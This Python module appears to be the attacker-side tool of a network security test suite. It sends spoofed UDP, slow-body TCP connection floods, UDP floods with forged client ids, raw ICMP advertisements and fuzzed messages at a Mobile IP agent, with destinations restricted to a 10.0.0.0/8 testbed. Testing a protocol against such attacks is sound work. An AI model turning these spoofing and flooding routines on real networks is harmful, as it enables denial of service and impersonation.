"""The attack suite's tools, run INSIDE the attacker host (``att12``) of a live run.

``python -m nodetools.attacker COMMAND SPEC.json`` reads what to send from a JSON file the
suite (:mod:`experiments.attacks`) wrote, sends it from this host's own namespace and prints
one JSON line: what was sent and every answer that came back. Nothing here reads the run's
keys: the attacker knows only what the suite hands it (bytes captured on the wire, addresses).

Commands (each SPEC is a dict; payloads are hex strings):

* ``udp`` — ``{dst, port, payloads, listen_s, rate, src_port, spoof}``: each payload once from
  one socket (or, where ``spoof[i]`` is ``{src, sport}``, from that address by raw socket);
  answers decoded (Mobile IP replies on 434: code; MOAT control on 4340/4341: the body).
* ``tcp`` — ``{dst, port, payloads, timeout}``: each payload on its own connection, one answer
  read back (a MOAT control message), or how the connection ended.
* ``tcp_flood`` — ``{dst, port, connections, claim, send, hold_s}``: opens ``connections``
  connections, each sending a MOAT header that claims ``claim`` body bytes then only ``send``
  of them, holds them ``hold_s`` s; counts connections refused or closed by the agent.
* ``udp_flood`` — ``{dst, port, payloads, count, rate, mutate, seed, client_ids}``: ``count``
  datagrams cycling through ``payloads`` (mutated with ``mutate``; with ``client_ids`` a
  SERVICE_REQUEST template gets a fresh client per message).
* ``icmp`` — ``{dst, src, ttl, payloads, count, rate, vary_source}``: raw ICMP (crafted with
  Scapy) with a chosen TTL and source address, e.g. agent advertisements.
* ``fuzz`` — ``{targets: [{proto, dst, port, seeds, weight}], count, seed, rate}``: mutations
  of valid messages (:func:`mutate`) over UDP, TCP (framed, one connection kept) and ICMP.

The only addresses it sends to are those in the SPEC, which the suite takes from the run.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import select
import socket
import struct
import sys
import time
from typing import Any, Callable

from packets import ControlMessage, MalformedMessage, decode_registration
from packets.control import HEADER, MAGIC, VERSION

#: Networks the attacker may send to: the testbed's (10/8) and the link-local multicast groups.
ALLOWED = [ipaddress.ip_network("10.0.0.0/8"), ipaddress.ip_network("224.0.0.0/24")]
MAX_ANSWERS = 2000


class AttackerError(Exception):
    """A SPEC the attacker refuses (a destination outside the testbed, a bad field)."""


def check_destination(dst: str) -> str:
    """``dst`` if it is inside the testbed's networks; :class:`AttackerError` otherwise."""
    try:
        addr = ipaddress.ip_address(dst)
    except ValueError:
        raise AttackerError(f"destination {dst!r} is not an IPv4 address") from None
    if not any(addr in net for net in ALLOWED):
        raise AttackerError(f"destination {dst} is outside the testbed ({', '.join(map(str, ALLOWED))})")
    return dst


# --- mutation (pure) -----------------------------------------------------------------------


def mutate(data: bytes, rng: random.Random) -> bytes:
    """One mutation of a valid message: bit flips, byte overwrites with boundary values,
    truncation, extension, a duplicated or removed slice, or a length/count field set to an
    extreme. Pure given ``rng``, so a failure reproduces from the seed."""
    buf = bytearray(data)
    op = rng.randrange(8)
    if not buf:
        return bytes(rng.randbytes(rng.randrange(1, 64)))
    if op == 0:  # flip 1-8 bits
        for _ in range(rng.randint(1, 8)):
            i = rng.randrange(len(buf))
            buf[i] ^= 1 << rng.randrange(8)
    elif op == 1:  # boundary bytes
        for _ in range(rng.randint(1, 4)):
            buf[rng.randrange(len(buf))] = rng.choice((0x00, 0x01, 0x7F, 0x80, 0xFE, 0xFF))
    elif op == 2:  # truncate
        del buf[rng.randrange(len(buf)):]
    elif op == 3:  # extend with random bytes
        buf.extend(rng.randbytes(rng.randint(1, 256)))
    elif op == 4:  # duplicate a slice
        i = rng.randrange(len(buf))
        j = min(len(buf), i + rng.randint(1, 64))
        buf[j:j] = buf[i:j]
    elif op == 5:  # remove a slice
        i = rng.randrange(len(buf))
        del buf[i:i + rng.randint(1, 16)]
    elif op == 6:  # a 16- or 32-bit field to an extreme
        width = rng.choice((2, 4))
        if len(buf) >= width:
            i = rng.randrange(len(buf) - width + 1)
            value = rng.choice((0, 1, (1 << (8 * width)) - 1, 1 << (8 * width - 1)))
            buf[i:i + width] = value.to_bytes(width, "big")
    else:  # random bytes in place
        i = rng.randrange(len(buf))
        n = min(len(buf) - i, rng.randint(1, 16))
        buf[i:i + n] = rng.randbytes(n)
    return bytes(buf)


def with_client(template: bytes, client: str, seq: int | None = None) -> bytes:
    """A MOAT control message ``template`` (a SERVICE_REQUEST) re-encoded with another client
    id (and sequence number): the many-client-ids and huge-sequence attacks."""
    msg = ControlMessage.decode(template)
    body = dict(msg.body, client=client)
    if seq is not None:
        body["seq"] = seq
    return ControlMessage(msg.type, msg.txid, body).encode()


# --- answers -------------------------------------------------------------------------------


def describe_answer(port: int, data: bytes) -> dict[str, Any]:
    """What an answer said: a Mobile IP reply's code, a control message's type and body."""
    if port == 434:
        try:
            msg = decode_registration(data)
            return {"kind": type(msg).__name__, "code": int(getattr(msg, "code", -1)),
                    "identification": msg.identification, "home_address": msg.home_address}
        except MalformedMessage as exc:
            return {"kind": "malformed", "error": str(exc)}
    try:
        msg = ControlMessage.decode(data)
        body = msg.body
        return {"kind": msg.type.name, "ok": body.get("ok"), "error": body.get("error"),
                "reason": body.get("reason"), "seq": body.get("seq"), "client": body.get("client"),
                "served_by": body.get("served_by")}
    except MalformedMessage as exc:
        return {"kind": "malformed", "error": str(exc), "bytes": len(data)}


def _collect(sock: socket.socket, port: int, until: float, answers: list[dict[str, Any]]) -> None:
    while len(answers) < MAX_ANSWERS:
        left = until - time.monotonic()
        if left <= 0 or not select.select([sock], [], [], left)[0]:
            return
        try:
            data, src = sock.recvfrom(65535)
        except OSError as exc:
            answers.append({"kind": "socket_error", "error": str(exc)})
            continue
        answers.append(dict(describe_answer(port, data), source=src[0]))


class Pacer:
    """Sleep so ``n`` sends take ``n / rate`` seconds (rate 0: as fast as possible)."""

    def __init__(self, rate: float) -> None:
        self.rate = rate
        self.t0 = time.monotonic()

    def wait(self, n: int) -> None:
        if self.rate > 0:
            ahead = self.t0 + n / self.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)


# --- commands ------------------------------------------------------------------------------


def cmd_udp(spec: dict[str, Any]) -> dict[str, Any]:
    dst, port = check_destination(spec["dst"]), int(spec["port"])
    payloads = [bytes.fromhex(p) for p in spec["payloads"]]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if spec.get("src_port"):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("0.0.0.0", int(spec["src_port"])))
    answers: list[dict[str, Any]] = []
    pacer = Pacer(float(spec.get("rate", 0)))
    spoof = spec.get("spoof") or [None] * len(payloads)
    raw = _raw_ip_socket() if any(spoof) else None
    sent = 0
    for i, data in enumerate(payloads):
        pacer.wait(i)
        if spoof[i]:
            # From another host's address and port (on-link): its answer goes to that host.
            assert raw is not None
            raw.sendto(udp_packet(data, str(spoof[i]["src"]), int(spoof[i]["sport"]), dst, port), (dst, 0))
        else:
            sock.sendto(data, (dst, port))
        sent += 1
        # Between sends read what came: a forged answer right after a replay is the race of
        # the FOA-impersonation class.
        _collect(sock, port, time.monotonic() + float(spec.get("gap_s", 0)), answers)
    _collect(sock, port, time.monotonic() + float(spec.get("listen_s", 1.0)), answers)
    sock.close()
    if raw is not None:
        raw.close()
    return {"sent": sent, "answers": answers}


def _read_control(sock: socket.socket, timeout: float) -> tuple[str, dict[str, Any] | None]:
    """One control message from a stream: ("answer", body) or (how it ended, None)."""
    sock.settimeout(timeout)
    buf = b""
    try:
        while True:
            if len(buf) >= HEADER.size:
                need = HEADER.size + struct.unpack_from("!I", buf, 8)[0]
                if len(buf) >= need:
                    return "answer", describe_answer(4340, buf[:need])
            chunk = sock.recv(65536)
            if not chunk:
                return "closed", None
            buf += chunk
    except socket.timeout:
        return "timeout", None
    except ConnectionResetError:
        return "reset", None
    except OSError as exc:
        return f"error: {exc}", None


def cmd_tcp(spec: dict[str, Any]) -> dict[str, Any]:
    dst, port = check_destination(spec["dst"]), int(spec["port"])
    timeout = float(spec.get("timeout", 5.0))
    results = []
    for p in spec["payloads"]:
        try:
            sock = socket.create_connection((dst, port), timeout=timeout)
        except OSError as exc:
            results.append({"end": f"connect: {exc}"})
            continue
        try:
            sock.sendall(bytes.fromhex(p))
            end, answer = _read_control(sock, timeout)
        except OSError as exc:
            end, answer = f"send: {exc}", None
        finally:
            sock.close()
        results.append({"end": end, "answer": answer})
    return {"sent": len(results), "results": results}


def cmd_tcp_flood(spec: dict[str, Any]) -> dict[str, Any]:
    dst, port = check_destination(spec["dst"]), int(spec["port"])
    n, claim, send = int(spec["connections"]), int(spec["claim"]), int(spec["send"])
    header = HEADER.pack(MAGIC, VERSION, 1, 1, claim)
    chunk = header + b"{" + b" " * max(0, send - 1)
    socks: list[socket.socket] = []
    connect_failed = 0
    for _ in range(n):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        try:
            sock.settimeout(2.0)
            sock.connect((dst, port))
            sock.setblocking(False)
            try:
                sock.send(chunk)
            except (BlockingIOError, OSError):
                pass
            socks.append(sock)
        except OSError:
            connect_failed += 1
            sock.close()
    t_end = time.monotonic() + float(spec.get("hold_s", 3.0))
    closed = set()
    while time.monotonic() < t_end and len(closed) < len(socks):
        ready = select.select([s for s in socks if s.fileno() not in closed], [], [], 0.2)[0]
        for s in ready:
            try:
                if not s.recv(4096):
                    closed.add(s.fileno())
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                closed.add(s.fileno())
    for s in socks:
        s.close()
    return {"sent": n, "opened": len(socks), "connect_failed": connect_failed,
            "closed_by_agent": len(closed), "bytes_per_connection": len(chunk), "claimed": claim}


def cmd_udp_flood(spec: dict[str, Any]) -> dict[str, Any]:
    dst, port = check_destination(spec["dst"]), int(spec["port"])
    payloads = [bytes.fromhex(p) for p in spec["payloads"]]
    count, rng = int(spec["count"]), random.Random(int(spec.get("seed", 12)))
    mutating, client_ids = bool(spec.get("mutate")), bool(spec.get("client_ids"))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    pacer = Pacer(float(spec.get("rate", 0)))
    errors = 0
    answers: list[dict[str, Any]] = []
    for i in range(count):
        data = payloads[i % len(payloads)]
        if client_ids:
            data = with_client(data, f"{spec.get('client_prefix', 'forged')}-{i}")
        elif mutating:
            data = mutate(data, rng)
        pacer.wait(i)
        try:
            sock.sendto(data, (dst, port))
        except OSError:
            errors += 1
        if i % 500 == 0:
            _collect(sock, port, time.monotonic(), answers)
    _collect(sock, port, time.monotonic() + float(spec.get("listen_s", 0.5)), answers)
    sock.close()
    return {"sent": count - errors, "send_errors": errors, "answers_seen": len(answers),
            "answers": answers[:20]}


def _raw_ip_socket() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return sock


def icmp_packet(payload: bytes, src: str, dst: str, ttl: int) -> bytes:
    """An IP/ICMP packet carrying ``payload`` (an ICMP message, checksum included), crafted
    with Scapy so the TTL and the source are whatever the attack wants."""
    from scapy.layers.inet import IP
    from scapy.packet import Raw

    # Raw, not ICMP(payload): a fuzzed payload may be too short for Scapy to parse as ICMP,
    # and the bytes must go out exactly as mutated.
    return bytes(IP(src=src, dst=dst, ttl=ttl, proto=1) / Raw(payload))


def udp_packet(payload: bytes, src: str, sport: int, dst: str, dport: int) -> bytes:
    """An IP/UDP datagram from a source address and port of the attack's choosing (Scapy)."""
    from scapy.layers.inet import IP, UDP
    from scapy.packet import Raw

    return bytes(IP(src=src, dst=dst, ttl=64) / UDP(sport=sport, dport=dport) / Raw(payload))


def cmd_icmp(spec: dict[str, Any]) -> dict[str, Any]:
    dst = check_destination(spec["dst"])
    src, ttl = str(spec["src"]), int(spec["ttl"])
    payloads = [bytes.fromhex(p) for p in spec["payloads"]]
    count = int(spec.get("count", len(payloads)))
    vary = bool(spec.get("vary_source"))
    base = int(ipaddress.ip_address(src))
    sock = _raw_ip_socket()
    pacer = Pacer(float(spec.get("rate", 0)))
    templates: dict[tuple[int, str], bytes] = {}
    errors = 0
    for i in range(count):
        source = str(ipaddress.ip_address(base + i % int(spec.get("sources", 1)))) if vary else src
        key = (i % len(payloads), source)
        packet = templates.get(key)
        if packet is None:
            packet = icmp_packet(payloads[key[0]], source, dst, ttl)
            if len(templates) < 4096:
                templates[key] = packet
        pacer.wait(i)
        try:
            sock.sendto(packet, (dst, 0))
        except OSError:
            errors += 1
    sock.close()
    return {"sent": count - errors, "send_errors": errors, "ttl": ttl, "src": src}


def cmd_fuzz(spec: dict[str, Any]) -> dict[str, Any]:
    """Mutations of valid messages across ports; returns counts per target."""
    targets = spec["targets"]
    for t in targets:
        check_destination(t["dst"])
    rng = random.Random(int(spec.get("seed", 12)))
    count = int(spec["count"])
    weights = [float(t.get("weight", 1)) for t in targets]
    seeds = [[bytes.fromhex(s) for s in t["seeds"]] for t in targets]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    udp.setblocking(False)
    raw = _raw_ip_socket()
    tcp: dict[int, socket.socket | None] = {}
    stats = [{"proto": t["proto"], "dst": t["dst"], "port": t.get("port"), "sent": 0,
              "errors": 0, "reconnects": 0} for t in targets]
    pacer = Pacer(float(spec.get("rate", 0)))
    src = str(spec.get("src", "0.0.0.0"))

    def tcp_send(i: int, data: bytes) -> None:
        t = targets[i]
        sock = tcp.get(i)
        if sock is None:
            sock = socket.create_connection((t["dst"], int(t["port"])), timeout=2.0)
            sock.setblocking(False)
            tcp[i] = sock
            stats[i]["reconnects"] += 1
        try:
            sock.send(data)
            try:
                while sock.recv(65536):
                    pass
            except BlockingIOError:
                pass
        except OSError:
            sock.close()
            tcp[i] = None
            raise

    senders: dict[str, Callable[[int, bytes], None]] = {
        "udp": lambda i, d: udp.sendto(d, (targets[i]["dst"], int(targets[i]["port"]))),
        "tcp": tcp_send,
        "icmp": lambda i, d: raw.sendto(icmp_packet(d, src, targets[i]["dst"], 1),
                                        (targets[i]["dst"], 0)),
    }
    for n in range(count):
        i = rng.choices(range(len(targets)), weights)[0]
        data = mutate(rng.choice(seeds[i]), rng)
        if targets[i]["proto"] == "tcp" and len(data) >= HEADER.size:
            # Keep most TCP frames well framed, so the agent parses the body (a bad header
            # only closes the connection, which the next message reopens).
            if rng.random() < 0.8:
                body = data[HEADER.size:]
                data = data[:8] + struct.pack("!I", len(body)) + body
        pacer.wait(n)
        try:
            senders[targets[i]["proto"]](i, data)
            stats[i]["sent"] += 1
        except OSError:
            stats[i]["errors"] += 1
    for sock in tcp.values():
        if sock is not None:
            sock.close()
    udp.close()
    raw.close()
    return {"sent": sum(s["sent"] for s in stats), "targets": stats, "seed": spec.get("seed", 12)}


COMMANDS: dict[str, Callable[[dict[str, Any]], dict[str, Any]]] = {
    "udp": cmd_udp, "tcp": cmd_tcp, "tcp_flood": cmd_tcp_flood, "udp_flood": cmd_udp_flood,
    "icmp": cmd_icmp, "fuzz": cmd_fuzz,
}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m nodetools.attacker", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("command", choices=sorted(COMMANDS))
    parser.add_argument("spec", help="a JSON file with what to send")
    args = parser.parse_args(argv)
    try:
        with open(args.spec) as fh:
            spec = json.load(fh)
        out = COMMANDS[args.command](spec)
    except (AttackerError, KeyError, ValueError, TypeError) as exc:
        print(json.dumps({"error": f"{type(exc).__name__}: {exc}"}))
        return 2
    print(json.dumps(out, default=str))
    return 0


if __name__ == "__main__":
    sys.exit(main())
